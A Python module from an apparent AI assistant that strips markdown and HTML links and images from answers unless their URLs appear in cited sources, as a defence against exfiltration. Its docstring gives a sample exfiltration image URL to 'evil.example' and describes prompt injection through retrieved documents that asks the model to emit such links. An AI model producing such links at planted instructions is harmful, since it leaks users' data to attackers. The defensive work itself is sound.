"""Links and images that point outside the sources: the markdown exfiltration channel.

An answer rendered as markdown can carry data out of the page: `![x](https://evil.example/
log?q=SECRET)` is fetched as soon as it is shown, a link sends it when clicked. Planted
instructions (in the question or in a retrieved document) ask the model for exactly that.

The rule: a link or image stays only when its URL appears, word for word, in a passage the
answer cites (its text, heading or source name). Every other one keeps its text and loses
its URL: inline `[text](url)` and `![alt](url)`, reference-style `[text][1]` with
`[1]: url`, autolinks `<url>`, bare URLs (`https://...`, `www....`, `data:...`) and HTML
`<a href>` / `<img src>`. A bare URL or autolink has no text but its URL: it becomes
"(link removed)". Empty targets and `#anchors` stay (they leave the page for nowhere).

Cited rather than retrieved passages: the user sees which passages the answer cites, and a
poisoned passage that was retrieved but not used cannot lend its URL to the answer. A URL the
model builds itself (with the conversation in its query string) is in no passage at all.
"""

from __future__ import annotations

import html
import re
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from urllib.parse import unquote

from assistant.text import MARKER

REMOVED = "(link removed)"

# [label]( or ![alt]( : a label may hold one level of brackets ("[![img](a)](b)", "[see [1]](u)").
_INLINE_START = re.compile(r"(!?)\[((?:[^\[\]\n\\]|\\.|\[[^\[\]\n]*\])*)\]\(")
# [label]: url "title" (the URL may be on the next line; a footnote "[^1]:" is no link)
_DEFINITION = re.compile(
    r"(?m)^[ \t]{0,3}\[([^\]\n^][^\]\n]*)\]:[ \t]*\n?[ \t]*(<[^>\n]*>|\S+)"
    r"(?:[ \t]+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?[ \t]*(?:\n|$)")
_REFERENCE = re.compile(r"(!?)\[((?:[^\[\]\n\\]|\\.)*)\]\[([^\[\]\n]*)\]")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*)>")
_BARE = re.compile(
    r"(?i)(?:\b(?:https?|ftp|file)://|\bwww\.(?=[\w-]+\.)|\bdata:[a-z]+/[a-z0-9.+-]+[;,])"
    r"[^\s<>\"'`\[\]{}|\\^]*")
_HTML_A = re.compile(r"(?is)<a\b([^>]*)>(.*?)</a\s*>")
_HTML_IMG = re.compile(r"(?is)<img\b([^>]*?)/?>")
# "https&#58;//" renders as "https://": the entity-encoded scheme separator, decoded.
_ENCODED_SCHEME = re.compile(
    r"(?i)\b([a-z][a-z0-9+.\-]*)((?:&(?:#0*58|#x0*3a|colon);?|:)(?:&(?:#0*47|#x0*2f|sol);?|/){2})")
_TRAILING = ".,:;!?*_~'\""
_INVISIBLE = re.compile(r"[\x00-\x1f\x7f\u200b-\u200f\u2060\ufeff]+")


def _attribute(attrs: str, name: str) -> str | None:
    m = re.search(rf"(?is)(?:^|\s){name}\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s>]+))", attrs)
    return None if m is None else next(g for g in m.groups() if g is not None)


@dataclass
class LinkResult:
    text: str
    removed: Counter = field(default_factory=Counter)  # "link" | "image" -> how many

    @property
    def changed(self) -> bool:
        return bool(self.removed)

    def summary(self) -> str:
        """For the log: counts only, never a URL."""
        links, images = self.removed["link"], self.removed["image"]
        parts = [f"{links} link(s)"] * bool(links) + [f"{images} image(s)"] * bool(images)
        return " and ".join(parts) + " to URLs outside the cited sources removed"

    def note(self) -> str:
        """For the user: "I removed 1 link that pointed outside the sources." """
        links, images = self.removed["link"], self.removed["image"]
        parts = []
        if links:
            parts.append("1 link" if links == 1 else f"{links} links")
        if images:
            parts.append("1 image" if images == 1 else f"{images} images")
        return f"I removed {' and '.join(parts)} that pointed outside the sources."


# -- where the URLs are -------------------------------------------------------------------------


def _closing_paren(text: str, start: int) -> int | None:
    """Index of the ")" that closes the "(" just before `start`; None when there is none
    before a blank line."""
    depth, i = 1, start
    while i < len(text):
        c = text[i]
        if c == "\\":
            i += 2
            continue
        if c == "\n" and text.startswith("\n", i + 1):
            return None
        depth += (c == "(") - (c == ")")
        if depth == 0:
            return i
        i += 1
    return None


def destination(target: str) -> str:
    """The URL of a link target: `<url>` or its first word (the rest is a title)."""
    target = target.strip()
    if target.startswith("<"):
        return target[1:].split(">", 1)[0]
    return target.split()[0] if target.split() else ""


def markdown_links(text: str) -> Iterator[tuple[int, int, bool, str, str]]:
    """(start, end, is_image, label, url) of each inline `[label](url)` and `![alt](url)`,
    left to right; a link inside another's label is not yielded separately."""
    pos = 0
    while (m := _INLINE_START.search(text, pos)) is not None:
        close = _closing_paren(text, m.end())
        if close is None:
            pos = m.start() + 1
            continue
        yield m.start(), close + 1, bool(m.group(1)), m.group(2), \
            destination(text[m.end():close])
        pos = close + 1


def _bare_end(url: str) -> str:
    """A bare URL without the punctuation that ends its sentence (and an unbalanced ")")."""
    while url and (url[-1] in _TRAILING or (url[-1] == ")" and url.count(")") >
                                             url.count("("))):
        url = url[:-1]
    return url


# -- the rule -----------------------------------------------------------------------------------


def _canonical(text: str) -> str:
    for _ in range(2):  # entities and percent-encoding may be nested
        text = unquote(html.unescape(text))
    return _INVISIBLE.sub("", text)


def url_in_sources(url: str, sources: Sequence[str]) -> bool:
    """Whether `url` appears in one of `sources` (after decoding entities and %-escapes on
    both sides, so the same address written two ways still matches). An empty target or a
    `#fragment` stays on the page."""
    url = _canonical(url).strip()
    if not url or url.startswith("#"):
        return True
    return any(url in _canonical(source) for source in sources)


def cited_sources(text: str, passages: Sequence) -> list[str]:
    """Text, heading and source name of each passage that `text` cites with [n]."""
    cited = {int(n) for m in MARKER.finditer(text) for n in re.split(r"\s*,\s*", m.group(1))}
    return [part for p in passages if p.n in cited for part in (p.text, p.heading, p.source)
            if part]


# -- the passes ---------------------------------------------------------------------------------


class _Pass:
    """One rewrite of the text: outside URLs replaced, counted in `result`."""

    def __init__(self, result: LinkResult, sources: Sequence[str]):
        self.result, self.sources = result, sources

    def allowed(self, url: str, kind: str = "link") -> bool:
        if url_in_sources(url, self.sources):
            return True
        self.result.removed[kind] += 1
        return False

    def html_tags(self, text: str) -> str:
        def anchor(m: re.Match) -> str:
            href = _attribute(m.group(1), "href")
            return m.group(0) if href is None or self.allowed(href) else m.group(2)

        def image(m: re.Match) -> str:
            src = _attribute(m.group(1), "src") or ""
            srcset = _attribute(m.group(1), "srcset")
            if srcset is None and self.allowed(src, "image"):
                return m.group(0)
            if srcset is not None:
                self.result.removed["image"] += 1
            return _attribute(m.group(1), "alt") or ""

        return _HTML_IMG.sub(image, _HTML_A.sub(anchor, text))

    def inline(self, text: str) -> str:
        out, cursor = [], 0
        for start, end, is_image, label, url in markdown_links(text):
            if self.allowed(url, "image" if is_image else "link"):
                continue
            out += [text[cursor:start], label]
            cursor = end
        return "".join(out) + text[cursor:]

    def references(self, text: str) -> str:
        removed: set[str] = set()

        def definition(m: re.Match) -> str:
            if self.allowed(destination(m.group(2))):
                return m.group(0)
            removed.add(_label(m.group(1)))
            return ""

        text = _DEFINITION.sub(definition, text)

        def use(m: re.Match) -> str:
            label = _label(m.group(3) or m.group(2))
            return m.group(2) if label in removed else m.group(0)

        return _REFERENCE.sub(use, text) if removed else text

    def autolinks(self, text: str) -> str:
        return _AUTOLINK.sub(lambda m: m.group(0) if self.allowed(m.group(1)) else REMOVED, text)

    def bare(self, text: str) -> str:
        def one(m: re.Match) -> str:
            url = _bare_end(m.group(0))
            rest = m.group(0)[len(url):]
            return m.group(0) if self.allowed(url) else REMOVED + rest

        return _BARE.sub(one, text)


def _label(label: str) -> str:
    return " ".join(label.split()).casefold()


def _decode_schemes(text: str) -> str:
    return _ENCODED_SCHEME.sub(
        lambda m: m.group(1) + ("://" if "&" in m.group(2) else m.group(2)), text)


def remove_outside_links(text: str, sources: Sequence[str]) -> LinkResult:
    """`text` with every link and image whose URL is in none of `sources` replaced by its
    text (see the module's docstring); `result.removed` counts them by kind."""
    result = LinkResult(text)
    rewrite = _Pass(result, sources)
    text = rewrite.html_tags(_decode_schemes(text))
    for _ in range(4):  # a link in a removed link's label: "[![x](a)](b)"
        before = sum(result.removed.values())
        text = rewrite.inline(text)
        if sum(result.removed.values()) == before:
            break
    text = rewrite.bare(rewrite.autolinks(rewrite.references(text)))
    result.text = text if result.changed else result.text
    return result
